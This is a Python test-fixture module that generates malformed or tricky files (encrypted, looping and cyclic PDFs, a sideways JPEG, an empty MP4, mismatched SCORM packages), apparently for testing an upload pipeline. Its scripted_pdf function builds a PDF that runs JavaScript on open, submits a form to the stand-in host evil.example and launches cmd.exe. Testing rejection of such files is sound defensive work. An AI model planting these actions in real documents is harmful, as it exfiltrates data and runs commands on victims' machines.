"""Files that look right and are not, made when they are asked for."""

import struct
from io import BytesIO
from zipfile import ZIP_DEFLATED, ZipFile

from PIL import Image

from .archives import zip_of

MANIFEST = """<manifest><metadata><schemaversion>1.2</schemaversion></metadata>
<organizations default="O"><organization identifier="O"><title>Curso</title>
<item identifier="I" identifierref="R"><title>Uno</title></item></organization></organizations>
<resources><resource identifier="R" href="{launch}"/></resources></manifest>"""


def encrypted_pdf() -> bytes:
    """A PDF whose lock is not a password but a certificate."""
    lock = b"<</Filter/Adobe.PubSec/SubFilter/adbe.pkcs7.s5/V 4/Length 128>>"
    return _pdf([b"<</Type/Catalog/Pages 2 0 R>>", b"<</Type/Pages/Kids[3 0 R]/Count 1>>", _page(), lock], 4)


def looping_pdf() -> bytes:
    """A PDF whose outline entries are each other's next one."""
    return _pdf(
        [
            b"<</Type/Catalog/Pages 2 0 R/Outlines 4 0 R>>",
            b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
            _page(),
            b"<</Type/Outlines/First 5 0 R/Last 6 0 R/Count 2>>",
            b"<</Title(Uno)/Parent 4 0 R/Next 6 0 R/First 5 0 R>>",
            b"<</Title(Dos)/Parent 4 0 R/Next 5 0 R/First 4 0 R>>",
        ]
    )


def _page() -> bytes:
    return b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 200 200]>>"


def _pdf(objects: list[bytes], encrypt: int | None = None) -> bytes:
    out = bytearray(b"%PDF-1.7\n")
    places = []
    for number, body in enumerate(objects, 1):
        places.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    start = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % place for place in places)
    lock = b"/Encrypt %d 0 R/ID[<41><41>]" % encrypt if encrypt else b""
    out += b"trailer\n<</Size %d/Root 1 0 R%s>>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, lock, start)
    return bytes(out)


def sideways_jpeg(width: int, height: int) -> bytes:
    """A JPEG whose EXIF orientation says that it lies on its side."""
    out = BytesIO()
    exif = Image.Exif()
    exif[0x0112] = 6
    Image.effect_noise((width, height), 60).convert("RGB").save(out, "JPEG", exif=exif)
    return out.getvalue()


def silent_video() -> bytes:
    """An MP4 file without any track."""
    header = struct.pack(">I4s4sI4s", 20, b"ftyp", b"isom", 512, b"isom")
    movie = struct.pack(">I4sIIIII", 108, b"mvhd", 0, 0, 0, 1000, 8000) + bytes(80)
    return header + struct.pack(">I4s", 116, b"moov") + movie


def scorm_with(launch: str = "index.html", manifest: bytes | None = None, filler: bytes = b"") -> bytes:
    """A SCORM package with one page, and a manifest that may say something else."""
    out = BytesIO()
    with ZipFile(out, "w", ZIP_DEFLATED) as archive:
        archive.writestr("imsmanifest.xml", manifest or MANIFEST.format(launch=launch))
        archive.writestr("index.html", "<p>Agua</p>")
        if filler:
            archive.writestr("filler.txt", filler)
    return out.getvalue()


def scorm_asking_for(launch: str, packed: str, encoding: str | None = None) -> bytes:
    """A SCORM package whose manifest asks for its page by a name, and that has it by another."""
    files = {"imsmanifest.xml": MANIFEST.format(launch=launch).encode(), packed: b"<p>Agua</p>"}
    return zip_of(files, encoding)


def scripted_pdf() -> bytes:
    """A PDF that runs a script when it is opened, and sends a form when it is closed."""
    return _pdf(
        [
            b"<</Type/Catalog/Pages 2 0 R/OpenAction 4 0 R/AA<</WC 5 0 R>>>>",
            b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
            _page(),
            b"<</S/JavaScript/JS(app.alert\\(1\\); this.submitForm\\('https://evil.example'\\))>>",
            b"<</S/Launch/F(cmd.exe)>>",
        ]
    )


def cyclic_pdf() -> bytes:
    """A PDF whose tree of pages is its own branch."""
    return _pdf(
        [
            b"<</Type/Catalog/Pages 2 0 R>>",
            b"<</Type/Pages/Kids[2 0 R 3 0 R]/Count 2>>",
            b"<</Type/Pages/Kids[2 0 R 3 0 R]/Parent 2 0 R/Count 2>>",
        ]
    )
